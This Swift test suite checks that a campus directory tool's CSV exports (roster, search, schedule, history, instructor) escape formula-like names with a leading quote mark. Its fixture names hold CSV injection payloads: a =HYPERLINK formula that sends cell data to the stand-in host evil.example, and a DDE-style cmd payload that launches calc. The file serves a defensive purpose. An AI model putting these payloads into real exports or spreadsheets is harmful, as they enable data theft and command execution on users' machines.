import Foundation
import Testing

/// Every CSV `campus` writes, with directory names that a spreadsheet would run as formulas.
@Suite("CSV exports hold no live formula")
struct CSVFormulaEndToEndTests {
    /// Names a spreadsheet would take for formulas, each given to one demo person.
    static let names = [
        "displayName: Dana Whitfield": "displayName: =HYPERLINK(\"http://evil.example/?\"&A1,\"Dana\")",
        "cn: Dana Whitfield": "cn: =HYPERLINK(\"http://evil.example/?\"&A1,\"Dana\")",
        "givenName: Morgan": "givenName: @SUM(1+1)*cmd|' /C calc'!A0",
        "sn: Brennan": "sn: -2+3",
    ]

    /// The fields of CSV `text` (RFC 4180: quoted fields may hold commas, quotes and line breaks).
    static func fields(_ text: String) -> [String] {
        var fields: [String] = []
        var field = ""
        var quoted = false
        var characters = Array(text)[...]
        while let character = characters.popFirst() {
            if quoted {
                if character == "\"" {
                    if characters.first == "\"" { field.append("\""); characters.removeFirst() } else { quoted = false }
                } else {
                    field.append(character)
                }
            } else if character == "\"" {
                quoted = true
            } else if character == "," || character == "\n" || character == "\r\n" || character == "\r" {
                fields.append(field)
                field = ""
            } else {
                field.append(character)
            }
        }
        if !field.isEmpty { fields.append(field) }
        return fields
    }

    @Test("roster, search, schedule, history and table CSVs write each formula-like name after a quote mark")
    func namesAreNeutralised() throws {
        let campus = try CampusRunner()
        defer { campus.cleanUp() }
        var ldif = try String(contentsOf: CampusRunner.packageRoot.appendingPathComponent("fixtures/directory.ldif"), encoding: .utf8)
        for (plain, formula) in Self.names { ldif = ldif.replacingOccurrences(of: plain + "\n", with: formula + "\n") }
        let file = campus.home.appendingPathComponent("directory.ldif")
        try ldif.write(to: file, atomically: true, encoding: .utf8)
        #expect(try campus.run("sync", "registrar", "--term", "202630").status == 0)
        let synced = try campus.run("sync", "directory", "--ldif", file.path)
        #expect(synced.status == 0, "\(synced.error)")

        let exports = [
            ["roster", "CSSE415-03", "--term", "202630", "--csv"],
            ["search", "Whitfield", "--csv"],
            ["schedule", "brennam", "--term", "202630", "--csv"],
            ["history", "brennam", "--csv"],
            ["instructor", "whitfid", "--term", "202630", "--csv"],
        ]
        for arguments in exports {
            let result = try campus.run(arguments: arguments)
            #expect(result.status == 0, "\(arguments): \(result.error)")
            let fields = Self.fields(result.output)
            #expect(!fields.isEmpty, "\(arguments)")
            let live = fields.filter { field in
                guard let first = field.first, "=+-@\t\r".contains(first) else { return false }
                return Double(field) == nil
            }
            #expect(live.isEmpty, "\(arguments): \(live)")
            if ["roster", "search"].contains(arguments[0]) {
                #expect(fields.contains { $0.hasPrefix("'=HYPERLINK(") || $0.hasPrefix("'@SUM(") || $0.hasPrefix("'-2+3") },
                        "\(arguments) shows a neutralised name: \(result.output.prefix(600))")
            }
        }
    }
}
